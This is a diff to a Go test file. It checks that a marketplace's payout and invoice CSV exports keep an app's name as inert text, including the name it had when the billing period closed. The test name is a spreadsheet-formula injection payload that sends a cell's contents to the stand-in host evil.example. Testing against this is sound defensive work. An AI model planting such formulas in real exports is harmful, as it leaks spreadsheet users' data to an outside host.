@@ -136,7 +136,7 @@ func TestServerDropsSlowClients(t *testing.T) {
 func TestCSVCellsAreInert(t *testing.T) {
 	mp := startMarketplace(t, "serve", nil)
 	pub, tokPub := mp.user(t, "publisher")
-	_, tokCon := mp.user(t, "consumer")
+	con, tokCon := mp.user(t, "consumer")
 	name := `=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")`
 	app := num(t, mp.must(t, 201, "POST", "/api/apps/new", tokPub, map[string]any{"name": name, "hourly_rate": 1.1,
 		"deployment": map[string]any{"type": "k8s", "repoURL": tenv.ChartRepo, "chartName": "hello-web"}}).JSON(t)["id"])
@@ -164,6 +164,24 @@ func TestCSVCellsAreInert(t *testing.T) {
 		}
 		if !found {
 			t.Fatalf("no application row in the revenue CSV:\n%s", body)
+		}
+	}
+
+	// Closed into March 2025, then renamed: the invoice and the payout keep the name it had at the close,
+	// as text.
+	mp.must(t, 202, "DELETE", fmt.Sprintf("/api/deployments/%d", dep), tokCon, nil)
+	mp.waitForStatus(t, tokCon, dep, "uninstalled", 2*time.Minute)
+	query(t, mp.DatabaseURL, `UPDATE usage_records SET started_at = '2025-03-10Z', ended_at = '2025-03-10 01:00Z',
+  amount = usage_amount(hourly_rate, '2025-03-10Z', '2025-03-10 01:00Z') WHERE deployment_id = $1`, []any{dep})
+	mp.must(t, 200, "POST", "/api/billing/periods/2025-03/close", mp.Environ["MARKETPLACE_ADMIN_TOKEN"], nil)
+	mp.must(t, 200, "PUT", fmt.Sprintf("/api/apps/%d", app), tokPub, map[string]any{"name": "renamed", "hourly_rate": 1.1,
+		"deployment": map[string]any{"type": "k8s", "repoURL": tenv.ChartRepo, "chartName": "hello-web"}})
+	payout := string(mp.must(t, 200, "GET", fmt.Sprintf("/api/billing/publisher/%d/payouts/2025-03?format=csv", pub), tokPub, nil).Body)
+	invoices := mp.must(t, 200, "GET", fmt.Sprintf("/api/billing/user/%d/invoices", con), tokCon, nil).JSON(t)["invoices"].([]any)
+	invoice := string(mp.must(t, 200, "GET", fmt.Sprintf("/api/billing/user/%d/invoices/%s?format=csv", con, invoices[0].(map[string]any)["number"]), tokCon, nil).Body)
+	for what, doc := range map[string]string{"payout": payout, "invoice": invoice} {
+		if !strings.Contains(doc, `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Invoice"")"`) || strings.Contains(doc, "renamed") {
+			t.Errorf("the %s CSV does not show the name at the close as text:\n%s", what, doc)
 		}
 	}
 }
